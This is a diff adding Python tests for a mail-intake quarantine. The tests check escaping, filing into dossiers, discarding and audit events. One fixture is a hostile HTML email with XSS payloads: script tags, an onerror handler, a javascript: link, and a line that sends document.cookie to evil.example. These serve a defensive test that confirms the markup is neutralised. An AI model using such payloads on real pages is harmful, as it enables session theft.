@@ -12,7 +12,7 @@ from sqlalchemy import select
 
 from core.db import Database
 from core.errors import ValidationError
-from core.models import InboundMail, Message
+from core.models import AuditEvent, InboundMail, Message
 from core.storage import LocalFileStore
 from mailbridge.filing import QuarantineFiler, file_from_quarantine
 from mailbridge.pipeline import Pipeline
@@ -161,3 +161,115 @@ def test_the_cli_lists_why_and_files_into_the_suggested_dossier(tmp_path: Path) 
     refused = loket("mail", "file", str(unmatched["id"]), ok=False)
     assert f"Mail {unmatched['id']} names no dossier: give a dossier number." in refused.stderr
     assert [w["id"] for w in loket.json("mail", "quarantine")] == [unmatched["id"]]
+
+
+HOSTILE = (
+    "<html><head><style>body{display:none}</style><script>alert('head')</script></head><body>"
+    "<p>Beste kantoor,</p><p>Zie de <b>bijlage</b>.</p>"
+    '<img src="https://tracker.example/p.gif" onerror="alert(1)">'
+    "<script>document.location='https://evil.example/?'+document.cookie</script>"
+    '<a href="javascript:alert(2)">klik</a><iframe src="https://evil.example"></iframe>'
+    "<p>&lt;script&gt;niet uitvoeren&lt;/script&gt;</p></body></html>"
+)
+
+
+def html_only_mail(subject: str) -> bytes:
+    from email.message import EmailMessage
+
+    msg = EmailMessage()
+    msg["From"] = "onbekend@elders.example"
+    msg["To"] = "portaal@kantoor.example"
+    msg["Subject"] = subject
+    msg["Message-ID"] = "<hostile-1@elders.example>"
+    msg.set_content(HOSTILE, subtype="html")
+    msg.add_attachment(
+        b"%PDF-1.4 x" * 100, maintype="application", subtype="pdf", filename="factuur.pdf"
+    )
+    msg.add_attachment(b"<script>x</script>", maintype="text", subtype="html", filename="a.html")
+    return msg.as_bytes()
+
+
+async def test_a_hostile_html_mail_is_shown_as_text_with_its_attachments_listed(
+    staff_web: Browser, db: Database, store: LocalFileStore, settings, firm: Firm
+) -> None:
+    result = await Pipeline(db, store, settings).handle(html_only_mail("<b>Factuur</b>"))
+    assert result.outcome == "quarantined"
+    await logged_in(staff_web, db, firm.staff)
+    response = await staff_web.get(f"/staff/quarantine/{result.inbound_id}")
+    assert response.status == 200
+    page = staff_web.last_html[staff_web.last_html.index("<main>") :]
+    original = page[page.index('data-testid="original"') : page.index('data-testid="attachments"')]
+    assert "Beste kantoor," in original and "Zie de bijlage." in original
+    # Nothing of the mail's markup reaches the page as markup: no tag, handler or address.
+    for hostile in ("<script", "<img", "<iframe", "onerror", "javascript:", "tracker.example"):
+        assert hostile not in page, hostile
+    assert "&lt;script&gt;niet uitvoeren&lt;/script&gt;" in original  # text stays text
+    assert "&lt;b&gt;Factuur&lt;/b&gt;" in page  # the subject, too
+    listed = page[page.index('data-testid="attachments"') :]
+    assert "factuur.pdf" in listed and "application/pdf" in listed and "1,000 bytes" in listed
+    assert "a.html" in listed and "text/html" in listed
+    assert "/download" not in listed  # listed, never opened from here
+
+
+async def test_filed_from_the_mail_page_into_a_dossier_found_by_search(
+    staff_web: Browser, db: Database, store: LocalFileStore, settings, firm: Firm
+) -> None:
+    inbound_id = await held(db, store, settings, "Re: [2026-0001] stukken", text="Voor de BV.")
+    await logged_in(staff_web, db, firm.staff)
+    await staff_web.get(f"/staff/quarantine/{inbound_id}")
+    page = staff_web.last_html
+    # The suggested dossier is offered first, before any search.
+    assert 'data-testid="candidate-2026-0001"' in page and "Voorgesteld" in page
+    await staff_web.get(f"/staff/quarantine/{inbound_id}?q=bakkerij")
+    page = staff_web.last_html
+    assert page.index("candidate-2026-0001") < page.index("candidate-2026-0100")
+    assert "candidate-2026-0200" not in page
+    filed = await staff_web.post(
+        f"/staff/quarantine/{inbound_id}/file",
+        {"dossier": "2026-0100", "from": "mail"},
+        allow_redirects=False,
+    )
+    assert filed.status == 303
+    [message] = await incoming(db)
+    assert (message.dossier_id, message.body) == (firm.bv_1.id, "Voor de BV.")
+    async with db.read() as s:
+        row = await s.get(InboundMail, inbound_id)
+        events = list(await s.scalars(select(AuditEvent).where(AuditEvent.action == "mail.file")))
+    assert row.outcome == "stored" and row.dossier_id == firm.bv_1.id
+    assert [(e.actor_id, e.channel, e.dossier_id) for e in events] == [
+        (firm.staff.id, "web", firm.bv_1.id)
+    ]
+    # Filed once: the page of a mail no longer in quarantine says so.
+    again = await staff_web.post(
+        f"/staff/quarantine/{inbound_id}/file", {"dossier": "2026-0100", "from": "mail"}
+    )
+    assert again.status == 400 and "niet in quarantaine" in staff_web.last_html
+
+
+async def test_discarded_mail_is_kept_for_the_audit_and_not_listed_again(
+    staff_web: Browser, db: Database, store: LocalFileStore, settings, firm: Firm
+) -> None:
+    inbound_id = await held(db, store, settings, "Gratis vakantie", sender="spam@elders.example")
+    await logged_in(staff_web, db, firm.staff)
+    await staff_web.get(f"/staff/quarantine/{inbound_id}")
+    response = await staff_web.post(
+        f"/staff/quarantine/{inbound_id}/discard", allow_redirects=False
+    )
+    assert response.status == 303
+    await staff_web.get(response.headers["Location"])
+    assert "De e-mail is weggegooid" in staff_web.last_html
+    assert "Gratis vakantie" not in staff_web.last_html
+    async with db.read() as s:
+        row = await s.get(InboundMail, inbound_id)
+        [event] = await s.scalars(select(AuditEvent).where(AuditEvent.action == "mail.discard"))
+    assert (
+        row.outcome == "discarded" and row.raw_storage_key and row.path[-1] == "discarded by staff"
+    )
+    assert (event.actor_id, event.channel, event.subject_id) == (firm.staff.id, "web", inbound_id)
+    assert event.details == {"sender": "spam@elders.example"}
+    assert await incoming(db) == []
+    # Neither filed nor discarded twice, nor shown again by its address.
+    assert (await staff_web.get(f"/staff/quarantine/{inbound_id}")).status == 400
+    assert (await staff_web.post(f"/staff/quarantine/{inbound_id}/discard")).status == 400
+    assert (await staff_web.post(f"/staff/quarantine/{inbound_id}/file")).status == 400
+    assert await incoming(db) == []
